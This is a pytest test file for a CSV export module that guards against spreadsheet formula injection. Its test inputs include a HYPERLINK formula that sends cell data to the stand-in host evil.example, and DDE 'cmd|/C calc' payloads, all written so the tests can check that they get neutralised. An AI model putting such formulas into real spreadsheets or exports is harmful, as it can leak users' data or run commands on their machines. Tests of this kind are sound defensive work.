"""CSV exports cannot smuggle spreadsheet formulas (pc_app.csv_export)."""
import csv
import io

import pytest

from pc_app.csv_export import csv_text, neutralise_cell, write_csv


@pytest.mark.parametrize("value", [
    "=1+1", '=HYPERLINK("https://evil.example?"&A2,"Open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
    "\t=1+1", "\r=1+1", "\n=1+1", "=", "-", "@",
])
def test_formula_like_text_is_written_as_text(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Jane", "ACME = best", "a-b", "jane@acme.io", "", " =1", "'=1"])
def test_ordinary_text_is_unchanged(value):
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", ["-5", "+14155550123", "-12.50", "42"])
def test_text_that_is_only_a_number_stays_a_number(value):
    assert neutralise_cell(value) == value


def test_numbers_booleans_and_missing_values():
    assert [neutralise_cell(v) for v in (-5, 3.5, True, None)] == [-5, 3.5, True, ""]


def test_a_whole_export_reads_back_with_every_dangerous_cell_neutralised():
    rows = [{"name": "=cmd|'/C calc'!A0", "note": "@boss see +this", "price": -500},
            ("Plain Co", "multi\nline, with \"quotes\"", 1200)]
    text = csv_text(["name", "note", "price"], rows)
    assert text.endswith("\r\n")
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed == [["name", "note", "price"],
                      ["'=cmd|'/C calc'!A0", "'@boss see +this", "-500"],
                      ["Plain Co", 'multi\nline, with "quotes"', "1200"]]
    for row in parsed[1:]:
        assert not any(cell.startswith(("=", "+", "@")) for cell in row)


def test_headers_are_neutralised_too_and_rows_must_fit_the_columns():
    assert csv_text(["=evil"], []).startswith("'=evil")
    with pytest.raises(ValueError, match="row 1 has 1 cells for 2 columns"):
        write_csv(io.StringIO(), ["a", "b"], [("only one",)])
